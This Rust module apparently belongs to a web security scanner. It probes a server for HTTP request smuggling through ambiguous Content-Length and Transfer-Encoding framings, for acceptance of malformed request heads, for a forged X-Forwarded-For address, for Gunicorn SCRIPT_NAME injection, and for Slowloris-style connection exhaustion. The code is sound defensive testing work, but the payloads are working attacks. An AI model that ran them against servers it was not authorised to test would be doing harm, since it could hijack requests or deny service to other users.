//! Attacks on the border between two readers of one message, and on the patience of the server.

use std::io::ErrorKind;
use std::net::Ipv4Addr;
use std::time::{Duration, Instant};

use super::{front_page, ordinary_search, own_login};
use crate::Error;
use crate::browser::{self, From, How};
use crate::client::Wire;
use crate::context::{Context, described};
use crate::cookies::Jar;
use crate::encode;
use crate::http::{Request, Response};
use crate::probe::{Effect, Failed, Probe, Twin, Verdict};

pub(super) const PROBES: &[Probe] = &[
    Probe {
        id: "protocol/request-smuggling",
        title: "hide a second request in the body of the first",
        effect: Effect::Active,
        cwe: 444,
        asvs: "V4.2.1",
        attack: request_smuggling,
        twin: ordinary_search,
    },
    Probe {
        id: "protocol/malformed-heads",
        title: "have malformed requests answered as if they were sound",
        effect: Effect::Active,
        cwe: 436,
        asvs: "V4.2.1",
        attack: malformed_heads,
        twin: ordinary_search,
    },
    Probe {
        id: "protocol/forged-address",
        title: "pretend to come from another address",
        effect: Effect::Active,
        cwe: 348,
        asvs: "V4.1.3",
        attack: forged_address,
        twin: echo,
    },
    Probe {
        id: "protocol/aliased-header",
        title: "smuggle a header past the gateway under an alias",
        effect: Effect::Active,
        cwe: 444,
        asvs: "V4.1.3",
        attack: aliased_header,
        twin: echo,
    },
    Probe {
        id: "protocol/cgi-header",
        title: "move the app to another path by a header",
        effect: Effect::Active,
        cwe: 444,
        asvs: "V4.1.3",
        attack: cgi_header,
        twin: front_page,
    },
    Probe {
        id: "protocol/slow-heads",
        title: "occupy the server with heads that never end",
        effect: Effect::Intrusive,
        cwe: 400,
        asvs: "V13.1.2",
        attack: slow_heads,
        twin: front_page,
    },
    Probe {
        id: "protocol/slow-bodies",
        title: "occupy the app with forms that never end",
        effect: Effect::Intrusive,
        cwe: 400,
        asvs: "V13.1.2",
        attack: slow_bodies,
        twin: own_login,
    },
];

/// How long a connection may stay quiet before it is taken to have said everything.
const QUIET: Duration = Duration::from_millis(1500);

fn request_smuggling(context: &mut Context<'_>) -> Result<Verdict, Failed> {
    let authority = context.origin().authority();
    let mut refusal = None;
    for (name, head) in FRAMINGS {
        let hidden = format!("GET /{} HTTP/1.1\r\nHost: {authority}\r\n\r\n", encode::mark());
        let body = format!("0\r\n\r\n{hidden}");
        let head = head.replace("{host}", &authority).replace("{length}", &body.len().to_string());
        let mut wire = context.client.open()?.patience(QUIET);
        wire.say(format!("{head}{body}").as_bytes());
        let answers = wire.answers();
        if answers.len() > 1 {
            return Ok(Verdict::succeeded(format!("{name}: one message, {} answers: the hidden request was run", answers.len())));
        }
        refusal = answers.into_iter().next().or(refusal);
    }
    Ok(all_failed(refusal, &format!("none of {} ambiguous messages got its hidden request answered", FRAMINGS.len())))
}

/// Heads whose length two readers can see differently. In all, the body is an end of chunks and then a hidden request.
const FRAMINGS: [(&str, &str); 10] = [
    (
        "Content-Length with chunked",
        "POST / HTTP/1.1\r\nHost: {host}\r\nContent-Length: {length}\r\nTransfer-Encoding: chunked\r\n\r\n",
    ),
    (
        "chunked, then identity",
        "POST / HTTP/1.1\r\nHost: {host}\r\nContent-Length: {length}\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n",
    ),
    (
        "chunked in a list",
        "POST / HTTP/1.1\r\nHost: {host}\r\nContent-Length: {length}\r\nTransfer-Encoding: gzip, chunked\r\n\r\n",
    ),
    ("xchunked", "POST / HTTP/1.1\r\nHost: {host}\r\nContent-Length: {length}\r\nTransfer-Encoding: xchunked\r\n\r\n"),
    (
        "chunked after a vertical tab",
        "POST / HTTP/1.1\r\nHost: {host}\r\nContent-Length: {length}\r\nTransfer-Encoding: \x0bchunked\r\n\r\n",
    ),
    (
        "space before the colon",
        "POST / HTTP/1.1\r\nHost: {host}\r\nContent-Length: {length}\r\nTransfer-Encoding : chunked\r\n\r\n",
    ),
    (
        "folded Transfer-Encoding",
        "POST / HTTP/1.1\r\nHost: {host}\r\nContent-Length: {length}\r\nTransfer-Encoding:\r\n chunked\r\n\r\n",
    ),
    ("two lengths", "POST / HTTP/1.1\r\nHost: {host}\r\nContent-Length: 5\r\nContent-Length: {length}\r\n\r\n"),
    ("two lengths in a list", "POST / HTTP/1.1\r\nHost: {host}\r\nContent-Length: 5, {length}\r\n\r\n"),
    (
        "chunked in HTTP/1.0",
        "POST / HTTP/1.0\r\nHost: {host}\r\nConnection: keep-alive\r\nContent-Length: {length}\r\nTransfer-Encoding: chunked\r\n\r\n",
    ),
];

fn all_failed(refusal: Option<Response>, evidence: &str) -> Verdict {
    match refusal {
        Some(response) => Verdict::refused(&response, evidence),
        None => Verdict::stopped(evidence),
    }
}

fn malformed_heads(context: &mut Context<'_>) -> Result<Verdict, Failed> {
    let authority = context.origin().authority();
    let (mut taken, mut refusal) = (Vec::new(), None);
    for (name, head) in HEADS {
        let mark = encode::mark();
        let path = context.search_path(&mark)?;
        let bytes = head.replace("{path}", &path).replace("{host}", &authority);
        let mut wire = context.client.open()?.patience(QUIET);
        wire.say(bytes.as_bytes());
        match wire.answer(&mut Vec::new()) {
            Ok(answer) if (200..300).contains(&answer.status) && answer.contains(&mark) => taken.push(name),
            Ok(answer) => refusal = Some(answer),
            Err(_) => {}
        }
    }
    Ok(if taken.is_empty() {
        all_failed(refusal, &format!("none of {} malformed requests reached the page", HEADS.len()))
    } else {
        Verdict::succeeded(format!("answered with the page: {}", taken.join(", ")))
    })
}

/// Heads that RFC 9112 tells a server to refuse, or that two readers understand differently.
const HEADS: [(&str, &str); 11] = [
    ("line ends without CR", "GET {path} HTTP/1.1\nHost: {host}\nConnection: close\n\n"),
    ("a folded header", "GET {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\nX-A: b\r\n c\r\n\r\n"),
    ("NUL in a header", "GET {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\nX-A: b\0c\r\n\r\n"),
    ("a lone CR in a header", "GET {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\nX-A: b\rX-B: c\r\n\r\n"),
    ("a space before the colon", "GET {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\nX-A : b\r\n\r\n"),
    ("a space before the first header", "GET {path} HTTP/1.1\r\n X-A: b\r\nHost: {host}\r\nConnection: close\r\n\r\n"),
    ("two hosts", "GET {path} HTTP/1.1\r\nHost: {host}\r\nHost: evil.example\r\nConnection: close\r\n\r\n"),
    ("no host", "GET {path} HTTP/1.1\r\nConnection: close\r\n\r\n"),
    ("two targets", "GET http://evil.example{path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n"),
    ("a space in the target", "GET {path} x HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n"),
    ("a header name with a space", "GET {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\nX A: b\r\n\r\n"),
];

/// An address of a documentation network (RFC 5737), so nobody's.
const FORGED: &str = "198.51.100.77";

fn echoed(context: &mut Context<'_>, headers: &[(&str, &str)]) -> Result<Response, Failed> {
    let path = described(&context.app.echo, "echo")?.path.clone();
    let request = headers.iter().fold(Request::get(&path), |request, (name, value)| request.header(name, value));
    context.browse(request, &Jar::default(), &From::Visitor, How::Navigate)
}

fn forged(context: &mut Context<'_>, headers: &[(&str, &str)]) -> Result<Verdict, Failed> {
    let answer = echoed(context, headers)?;
    Ok(if answer.contains(FORGED) {
        Verdict::succeeded(format!("the app sees {FORGED} as the visitor's address"))
    } else {
        Verdict::refused(&answer, "the forged address did not reach the app")
    })
}

fn forged_address(context: &mut Context<'_>) -> Result<Verdict, Failed> {
    let element = format!("for={FORGED}");
    forged(context, &[("X-Forwarded-For", FORGED), ("X-Real-IP", FORGED), ("Forwarded", &element)])
}

fn aliased_header(context: &mut Context<'_>) -> Result<Verdict, Failed> {
    forged(context, &[("X_Forwarded_For", FORGED)])
}

/// An ordinary header of the visitor's own reaches the app.
fn echo(context: &mut Context<'_>) -> Result<Twin, Failed> {
    let mark = encode::mark();
    let answer = echoed(context, &[("X-Requested-With", &mark)])?;
    Ok(Twin::of(answer.contains(&mark), &answer, "an ordinary header"))
}

/// Gunicorn takes `SCRIPT_NAME` from a peer it trusts, which by default is whoever comes from 127.0.0.1: a gateway there.
fn cgi_header(context: &mut Context<'_>) -> Result<Verdict, Failed> {
    context.client.come_from(Some(Ipv4Addr::LOCALHOST));
    let mark = encode::mark();
    let request = Request::get(&format!("/{mark}/")).header("SCRIPT_NAME", &format!("/{mark}"));
    let page = context.client.send(&browser::dress(request, &context.origin(), &From::Visitor, How::Navigate))?;
    Ok(if (200..300).contains(&page.status) && page.contains(&format!("=\"/{mark}/")) {
        Verdict::succeeded(format!("every link of the page now begins with /{mark}/"))
    } else {
        Verdict::refused(&page, "the app did not move")
    })
}

/// Connections that are begun and never finished: more than a small server has threads.
const SLOW: usize = 96;

fn slow_heads(context: &mut Context<'_>) -> Result<Verdict, Failed> {
    let authority = context.origin().authority();
    slow(context, format!("GET / HTTP/1.1\r\nHost: {authority}\r\nX-Slow: ").as_bytes(), "heads")
}

fn slow_bodies(context: &mut Context<'_>) -> Result<Verdict, Failed> {
    let (origin, path) = (context.origin(), context.login()?.path.clone());
    // As the app's own page sends it, so that nothing but its slowness is wrong with it.
    let form = Request::new("POST", &path)
        .header("Content-Type", "application/x-www-form-urlencoded")
        .header("Content-Length", "100000");
    let head = browser::dress(form, &origin, &From::Own, How::Navigate).bytes(&origin.authority());
    slow(context, &head, "bodies")
}

/// Holds many messages open while another visitor waits for a page. A server that ends slow ones in time answers the visitor.
fn slow(context: &mut Context<'_>, begin: &[u8], what: &str) -> Result<Verdict, Failed> {
    let patience = context.client.patience() * 3 / 2;
    let mut held = hold(context, begin);
    context.client.come_from_a_visitor();
    let waited = wait(context, &mut held, patience)?;
    let count = held.len();
    Ok(match waited {
        Some(waited) => {
            let waited = waited.as_secs_f32();
            Verdict::stopped(format!("another visitor was answered after {waited:.1} s, with {count} unfinished {what} begun"))
        }
        None => Verdict::succeeded(format!(
            "{count} unfinished {what}, and no other visitor was answered within {} s",
            patience.as_secs()
        )),
    })
}

fn hold(context: &mut Context<'_>, begin: &[u8]) -> Vec<Wire> {
    let mut held: Vec<Wire> = std::iter::repeat_with(|| context.client.open()).take(SLOW).map_while(Result::ok).collect();
    for wire in &mut held {
        wire.say(begin);
    }
    // Long enough for the server to have accepted and begun to read all of them.
    std::thread::sleep(Duration::from_millis(500));
    held
}

/// How long a visitor waits for a page while each held message goes on by a byte now and then; `None` when none comes.
fn wait(context: &mut Context<'_>, held: &mut [Wire], patience: Duration) -> Result<Option<Duration>, Failed> {
    let (origin, started, mut buffer) = (context.origin(), Instant::now(), Vec::new());
    let mut visitor = context.client.open()?.patience(Duration::from_millis(500));
    visitor.say(&browser::dress(Request::get("/"), &origin, &From::Visitor, How::Navigate).bytes(&origin.authority()));
    while started.elapsed() < patience {
        match visitor.answer(&mut buffer) {
            Ok(page) => return Ok((200..400).contains(&page.status).then(|| started.elapsed())),
            Err(Error::Io(error)) if error.kind() == ErrorKind::TimedOut => held.iter_mut().for_each(|wire| {
                wire.say(b"x");
            }),
            Err(_) => break,
        }
    }
    Ok(None)
}
